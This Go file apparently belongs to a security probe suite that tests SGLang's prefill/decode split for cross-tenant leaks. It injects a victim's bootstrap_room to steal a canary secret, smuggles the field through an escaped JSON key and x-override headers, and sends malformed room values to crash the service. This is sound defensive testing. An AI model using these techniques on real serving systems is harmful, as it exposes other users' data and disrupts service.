package assure

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"time"
)

// theft makes a case: tenant 1's prefill leg waits in a room, and tenant 0 names that
// room in a request of its own, whose prompt is more tokens longer than tenant 1's.
func theft(more int) func(context.Context, *Probe) Verdict {
	return func(ctx context.Context, p *Probe) Verdict { return sglangTheft(ctx, p, more) }
}

func sglangTheft(ctx context.Context, p *Probe, more int) Verdict {
	if _, ok := p.bootstrap(1); !ok {
		return skip("the site has no bootstrap address of the form host:port")
	}
	secret := "The secret word of Ann is " + p.Canary(1) + ". "
	victim := form{path: completionPath}.body(secret+secret+secret+"The secret word of Ann is", answerTokens)
	size := p.tokens(ctx, victim["prompt"].(string))
	if size == 0 {
		return void("prefill does not count tokens")
	}
	own := form{path: completionPath}.body(p.numeralsOf(ctx, size+more), answerTokens)
	quiet := p.Tenant(0).Post(ctx, completionPath, nil, own)
	if hits := p.Foreign(quiet, 0); !quiet.OK() || len(hits) > 0 {
		return void("the thief's own request, in a room of its own, gets %s", quiet.brief())
	}

	// The victim's prefill leg, as any router has it waiting for a moment.
	meet := room()
	inner, cancel := context.WithCancel(ctx)
	defer cancel()
	waiting := make(chan Answer, 1)
	go func() {
		waiting <- p.Raw(inner, "prefill", http.MethodPost, completionPath, nil, p.inRoom(victim, meet))
	}()
	if !p.wait(ctx, patience, func() bool {
		load, ok := p.sglangLoad(ctx, "prefill")
		return ok && load.Disaggregation.Bootstrap+load.Disaggregation.Inflight > 0
	}) {
		cancel()
		<-waiting
		return void("the victim's prefill leg does not wait")
	}
	limit := watch(quiet.Took)
	thefts := p.steals(ctx, own, meet, limit)
	for _, t := range thefts {
		if hits := p.Foreign(t.client, 0); len(hits) > 0 {
			cancel()
			<-waiting
			return red("in a room of its own the thief's request gets 200 and nothing of it",
				"a request of %d tokens in the room of one of %d: %s holds %s", size+more, size, t.name, hits[0])
		}
	}
	// The room was open all the time: the victim's own decode leg finds it.
	finds, done := context.WithTimeout(ctx, limit)
	defer done()
	found := p.Raw(finds, "decode", http.MethodPost, completionPath, nil, p.inRoom(victim, meet))
	cancel()
	<-waiting
	if len(p.cage.find(found.Text, 0)) == 0 {
		return void("no secret came, but the victim's own decode leg does not get it either: %s", found.brief())
	}
	var how []string
	for _, t := range thefts {
		how = append(how, t.name+": "+t.client.brief())
	}
	return green("the room was open to the end: the victim's own decode leg got the secret", "%s", strings.Join(how, "; "))
}

// steal is one way to name a room.
type steal struct {
	name   string
	client Answer
}

// steals tries the ways that a tenant has. Straight at the engines it is enough to open
// a decode leg; elsewhere fields and headers have to get through.
func (p *Probe) steals(ctx context.Context, own map[string]any, meet int64, limit time.Duration) []steal {
	limited := func(name string, do func(context.Context) Answer) steal {
		inner, cancel := context.WithTimeout(ctx, limit)
		defer cancel()
		return steal{name, do(inner)}
	}
	if p.Way == Direct {
		return []steal{limited("a decode leg of its own", func(ctx context.Context) Answer {
			return p.Raw(ctx, "decode", http.MethodPost, completionPath, nil, p.inRoom(own, meet))
		})}
	}
	thief := p.Tenant(0)
	named, _ := thief.name(p.inRoom(own, meet)).(map[string]any)
	named["model"] = thief.name(map[string]any{}).(map[string]any)["model"]
	plain, _ := json.Marshal(named)
	escaped := strings.Replace(string(plain), `"bootstrap_room"`, `"bootstrap\u005froom"`, 1)
	return []steal{
		limited("fields", func(ctx context.Context) Answer { return thief.Post(ctx, completionPath, nil, plain) }),
		limited("fields with an escaped name", func(ctx context.Context) Answer { return thief.Post(ctx, completionPath, nil, escaped) }),
		limited("headers", func(ctx context.Context) Answer {
			return thief.Post(ctx, completionPath, overrides(named), own)
		}),
	}
}

// overrides are the headers with which the engine's routers put control fields beside a
// body that they do not read.
func overrides(fields map[string]any) map[string]string {
	headers := map[string]string{}
	for _, name := range []string{"bootstrap_host", "bootstrap_port", "bootstrap_room", "rid"} {
		if value, ok := fields[name]; ok {
			headers["x-override-"+strings.ReplaceAll(name, "_", "-")] = fmt.Sprint(value)
		}
	}
	return headers
}

// numeralsOf is a harmless text of exactly n tokens, as near as prefill's tokenizer lets
// it come.
func (p *Probe) numeralsOf(ctx context.Context, n int) string {
	words := max(n, 1)
	for range 8 {
		got := p.tokens(ctx, numerals(words))
		if got == 0 || got == n {
			break
		}
		words = max(words*n/got, words+n-got, 1)
	}
	return numerals(words)
}

// sglangBadRooms: rooms that no router would draw.
func sglangBadRooms(ctx context.Context, p *Probe) Verdict {
	if why := p.works(ctx); why != "" {
		return void("%s", why)
	}
	const control = "the same request without a room of its own gets 200"
	var seen []string
	bad := false
	for _, r := range []struct{ name, room string }{
		{"a text", `"x"`}, {"a list", `[1, 2]`}, {"a negative number", `-5`}, {"a number of 64 bits", `9223372036854775808`},
	} {
		inner, cancel := context.WithTimeout(ctx, patience)
		body := saying("Say the word apple.", 2)
		body["bootstrap_room"] = json.RawMessage(r.room)
		a := p.Tenant(0).Post(inner, chatPath, nil, body)
		cancel()
		bad = bad || a.Status < 400 || a.Status >= 500
		said := fmt.Sprintf("%s: %s after %.1f s", r.name, a.brief(), a.Took.Seconds())
		seen = append(seen, said)
		if why := p.aliveAfter(ctx); why != "" {
			return red(control, "%s; %s", strings.Join(seen, "; "), why)
		}
	}
	if bad {
		return red(control, "%s; the pair still serves", strings.Join(seen, "; "))
	}
	return green(control+", also afterwards", "%s", strings.Join(seen, "; "))
}

// aliveAfter says what of the pair is gone, or "".
func (p *Probe) aliveAfter(ctx context.Context) string {
	inner, cancel := context.WithTimeout(ctx, 2*patience)
	defer cancel()
	began := time.Now()
	why := p.works(inner)
	if why == "" {
		return ""
	}
	for _, name := range []string{"prefill", "decode"} {
		look, done := context.WithTimeout(ctx, patience)
		a := p.Raw(look, name, http.MethodGet, "/model_info", nil, nil)
		done()
		if a.Status != http.StatusOK {
			why += "; " + name + " is gone"
		}
	}
	return fmt.Sprintf("%.0f s later %s", time.Since(began).Seconds(), why)
}
